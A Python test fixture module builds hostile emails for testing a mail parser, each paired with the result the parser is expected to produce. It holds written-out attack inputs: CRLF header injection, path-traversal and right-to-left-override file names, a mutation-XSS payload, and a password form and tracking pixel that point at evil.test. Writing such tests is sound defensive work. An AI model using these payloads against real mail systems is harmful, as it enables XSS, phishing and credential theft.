"""Hostile mails, made by code: each with what must be understood of it. Ordinary ones are in ordinary_mails.py."""

import base64
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

HEAD = (
    b"From: Carla Meyer <carla@customer.test>\r\nTo: support@acme.test\r\nSubject: Where is my parcel?\r\n"
    b"Message-ID: <one@customer.test>\r\nDate: Fri, 20 Nov 2026 10:00:00 +0100\r\nMIME-Version: 1.0\r\n"
)
HELLO = b"\r\nHello, where is it?\r\n"


@dataclass(frozen=True)
class Case:
    """`understood` are attributes that the result must have, or questions that it must answer with yes."""

    name: str
    raw: Callable[[], bytes]
    understood: dict[str, Any]


CASES: list[Case] = []


def case(name: str, raw: bytes | Callable[[], bytes], **understood: Any) -> None:
    CASES.append(Case(name, raw if callable(raw) else lambda: raw, understood))


def mail(body: bytes = b"Hello, where is it?", type: bytes = b"text/plain; charset=utf-8", more: bytes = b"") -> bytes:
    return HEAD + more + b"Content-Type: " + type + b"\r\n\r\n" + body + b"\r\n"


def page(html: str) -> bytes:
    return mail(html.encode(), b"text/html; charset=utf-8")


def without(name: bytes) -> bytes:
    return b"".join(line for line in HEAD.splitlines(True) if not line.startswith(name)) + HELLO


def parts(*inner: bytes, kind: bytes = b"mixed") -> bytes:
    whole = b"".join(b"--b1\r\n" + part + b"\r\n" for part in inner)
    return mail(whole + b"--b1--", b"multipart/" + kind + b'; boundary="b1"')


def part(body: bytes, header: bytes = b"Content-Type: text/plain") -> bytes:
    return header + b"\r\n\r\n" + body


def attached(header: bytes) -> bytes:
    return parts(part(b"See the file."), part(b"AAAA", header))


def nested(depth: int) -> bytes:
    opened = b"".join(b'Content-Type: multipart/mixed; boundary="n%d"\r\n\r\n--n%d\r\n' % (n, n) for n in range(depth))
    return HEAD + opened + b"Content-Type: text/plain\r\n\r\ndeep\r\n"


# -- size and shape

case("100 KB header", lambda: mail(more=b"X-Long: " + b"a" * 100_000 + b"\r\n"), new="Hello, where is it?")
case("20,000 parameters", lambda: mail(type=b"text/plain" + b"".join(b"; p%d=1" % n for n in range(20_000))),
     new="Hello, where is it?")  # fmt: skip
case("100,000 headers", lambda: mail(more=b"".join(b"X-%d: y\r\n" % n for n in range(100_000))),
     warnings=("header",), subject="Where is my parcel?")  # fmt: skip
case("5,000 nested parts", lambda: nested(5_000), warnings=("parts",), subject="Where is my parcel?")
case("10 MB of text", lambda: mail(b"A line of an endless story.\r\n" * 370_000), warnings=("text",))
case("10,000 attachments", lambda: parts(part(b"Many."), *[part(b"x", b"Content-Disposition: attachment; filename=a")] * 10_000),
     text="Many.", warnings=lambda w: "parts" in w and "attachments" in w, attachments=lambda a: len(a) == 100)  # fmt: skip
case("a file of 18 MB", lambda: parts(part(b"Big."), part(base64.encodebytes(b"x" * 18_000_000),
     b"Content-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64")),
     attachments=lambda a: len(a[0].content) == 18_000_000)  # fmt: skip
case("larger than 25 MB", lambda: mail(b"x" * 26_300_000), reason="too_large")
case("nothing", b"", reason="empty")
case("a picture", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20, reason="no_mail")
case("a web page", b"<!DOCTYPE html>\n<html><body>Hi: there</body></html>", reason="no_mail")

case("25 MB, no byte less", lambda: parts(part(b"Big."), part(b"QUJD" * 19 * 10 + b"\r\n",
     b"Content-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n" + (b"QUJD" * 19 + b"\r\n")
     * ((25 * 1024 * 1024 - 2000) // 78))), text="Big.")  # fmt: skip
for _pattern in ("On a\r\n", "On a wrote\r\n", "From: x ", "\r\nFrom:", "> ", "Am 1 schrieb ", "_" * 32 + "\r\n", "Le a ", " ",
                 "-", "\r\n", "> On x\r\n", "\r\n> From: ", "El 1 ", "<a@b.c ", "a: b: To: \r\n\t", "=?utf-8?q?a?= "):  # fmt: skip
    case(
        f"100 KB of {_pattern!r}",
        lambda text=_pattern: mail((text * 100_000)[:100_000].encode()),
        subject="Where is my parcel?",
    )
    case(f"100 KB of {_pattern!r} in a page", lambda text=_pattern: page((text * 100_000)[:100_000]), remote_pictures=0)
for _tag in (
    "<a ",
    "<!--",
    "<![CDATA[",
    "<b><i>",
    "<p>",
    "<table><td>",
    "&amp;",
    "<img src=http://x>",
    "<svg><p>",
    "<b id=1>",
):
    case(f"500 KB of {_tag!r}", lambda text=_tag: page((text * 200_000)[:500_000]), subject="Where is my parcel?")

case(
    "a line of a page in 10,000 pieces",
    lambda: page(("<b>" + "x" * 90 + "</b>") * 9_900),
    subject="Where is my parcel?",
)

# -- charsets and encodings

case("an unknown charset", mail("Grüße".encode(), b"text/plain; charset=x-martian"), new="Grüße")
case("a codec that is no charset", mail(b"Hello", b"text/plain; charset=punycode"), new="Hello")
case("a lying charset", mail("Grüße".encode("cp1252"), b"text/plain; charset=utf-8"), new="Grüße")
case("broken base64", mail(b"SGVsbG8*gd29ybG\r\nQ", more=b"Content-Transfer-Encoding: base64\r\n"), new="Hello world")
case("broken quoted-printable", mail(b"Gr=C3=BC=C3=9Fe =ZZ =", more=b"Content-Transfer-Encoding: quoted-printable\r\n"),
     new=lambda text: text.startswith("Grüße"))  # fmt: skip
case("CR LF in encoded words", mail(more=b"").replace(b"Where is my parcel?", b"=?utf-8?q?Hi=0D=0ABcc:_x@y.test?="),
     subject="Hi Bcc: x@y.test")  # fmt: skip
case(
    "ISO-2022-JP",
    mail("荷物はどこですか".encode("iso2022_jp"), b"text/plain; charset=ISO-2022-JP"),
    new="荷物はどこですか",
)
case("NUL and halves of characters", mail(b"a\x00b\xed\xa0\x80", b"text/plain; charset=utf-8"),
     new=lambda text: "\x00" not in text and text.startswith("ab"))  # fmt: skip

# -- who and when

case("two senders", mail(more=b"From: Boss <boss@acme.test>\r\n"), warnings=("many_senders",),
     sender=lambda who: who.address == "carla@customer.test")  # fmt: skip
case("an empty From", (HEAD + HELLO).replace(b"Carla Meyer <carla@customer.test>", b""), warnings=("no_sender",))
case("no From", without(b"From"), warnings=("no_sender",), automatic=lambda a: not a.answerable)
case("a Date of 1970", without(b"Date").replace(HELLO, b"Date: Thu, 1 Jan 1970 00:00:00 +0000\r\n" + HELLO),
     date=lambda d: d.year == 1970)  # fmt: skip
case("a Date of 2099", without(b"Date").replace(HELLO, b"Date: Thu, 1 Jan 2099 00:00:00 +0000\r\n" + HELLO),
     date=lambda d: d.year == 2099)  # fmt: skip
case("no Date", without(b"Date"), date=None, warnings=("date",))
case("no Message-ID", without(b"Message-ID"), message_id="")
case("two Message-IDs", mail(more=b"Message-ID: <two@customer.test>\r\n"), message_id="<one@customer.test>")
case("a subject as long as a book", mail().replace(b"parcel", b"parcel " * 20_000), subject=lambda s: len(s) <= 1000)

# -- files

case("a name with a path", attached(b"Content-Disposition: attachment; filename=../../x"), names=["x"])
case("a hidden .htaccess", attached(b"Content-Disposition: attachment; filename*=utf-8''%E2%80%8B.htaccess"),
     names=["htaccess"])  # fmt: skip
case("a name of 300 bytes", attached(b"Content-Disposition: attachment; filename=" + b"n" * 300 + b".pdf"),
     names=lambda names: len(names[0]) <= 120 and names[0].endswith(".pdf"))  # fmt: skip
case("a name that turns round", attached(b"Content-Disposition: attachment; filename*=utf-8''cod%E2%80%AEfdp.exe"),
     names=["codfdp.exe"])  # fmt: skip
case("a name in `name`", attached(b"Content-Type: application/pdf; name=\"=?utf-8?q?Gr=C3=BC=C3=9Fe=2Epdf?=\""),
     names=["Grüße.pdf"])  # fmt: skip
case("a continued name", attached(b"Content-Type: image/png; name*0*=utf-8''a%20; name*1=b.png"), names=["a b.png"])
case("a number too long in a name", attached(b"Content-Type: image/png; name*" + b"9" * 5_000 + b"=a"),
     text="See the file.")  # fmt: skip
case("a hostile Content-ID", attached(b"Content-Type: image/png\r\nContent-ID: <\"><script>x</script>@y>"),
     attachments=lambda a: a[0].name == "file.png" and "\n" not in a[0].cid)  # fmt: skip
case("TNEF", attached(b"Content-Type: application/ms-tnef; name=winmail.dat"), names=["winmail.dat"])
case("a mail in a mail in a mail", attached(b"Content-Type: message/rfc822") .replace(b"AAAA", attached(b"Content-Type: "
     b"message/rfc822").replace(b"b1", b"b2")), names=["file.eml"], text="See the file.")  # fmt: skip
case("a calendar's invitation", parts(part(b"Meet?"), part(b"BEGIN:VCALENDAR", b"Content-Type: text/calendar; method=REQUEST"),
     kind=b"alternative"), names=["file.ics"], text="Meet?")  # fmt: skip
case("S/MIME", mail(b"AAAA", b"application/pkcs7-mime; name=smime.p7m"), protected="smime", names=["smime.p7m"])
case("PGP", parts(part(b"Version: 1", b"Content-Type: application/pgp-encrypted"), part(b"-----BEGIN PGP MESSAGE-----",
     b"Content-Type: application/octet-stream; name=a.asc"), kind=b"encrypted"), protected="pgp")  # fmt: skip

# -- pages

case("50,000 nested divs", lambda: page("<div>" * 50_000 + "Hello"), html="", text="Hello", warnings=("html",))
case("divs whose depth is hidden", lambda: page("<div><!--</div>-->" * 50_000 + "Hello"), html="",
     warnings=lambda w: "html" in w)  # fmt: skip
case("mutation XSS", page("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>Hi"),
     html=lambda html: "onerror" not in html and "<style" not in html)  # fmt: skip
case("a <base>", page('<base href="https://evil.test/">Hi'), html=lambda html: "base" not in html and "Hi" in html)
case("a <form>", page('<form action="https://evil.test"><input name=password></form>Hi'),
     html=lambda html: "form" not in html and "input" not in html)  # fmt: skip
case("CSS with url()", page('<p style="background:url(https://evil.test/x)">Hi</p><style>p{background:url(//e)}</style>'),
     html=lambda html: "url" not in html and "Hi" in html)  # fmt: skip
case("meta refresh", page('<meta http-equiv="refresh" content="0;url=https://evil.test">Hi'),
     html=lambda html: html.strip() == "Hi")  # fmt: skip
case("a tracking pixel", page('<img src="https://evil.test/p.gif?who=1" width=1 srcset="https://evil.test/2">Hi'),
     remote_pictures=1, html=lambda html: 'src="https' not in html and "srcset" not in html)  # fmt: skip
case("text only", mail(), new="Hello, where is it?", html="")
case("HTML only", page("<p>Hello,</p><p>where <b>is</b> it?</p>"), text=lambda text: "where is it?" in text)
case("no text at all", HEAD + b"\r\n", text="", new="", subject="Where is my parcel?")
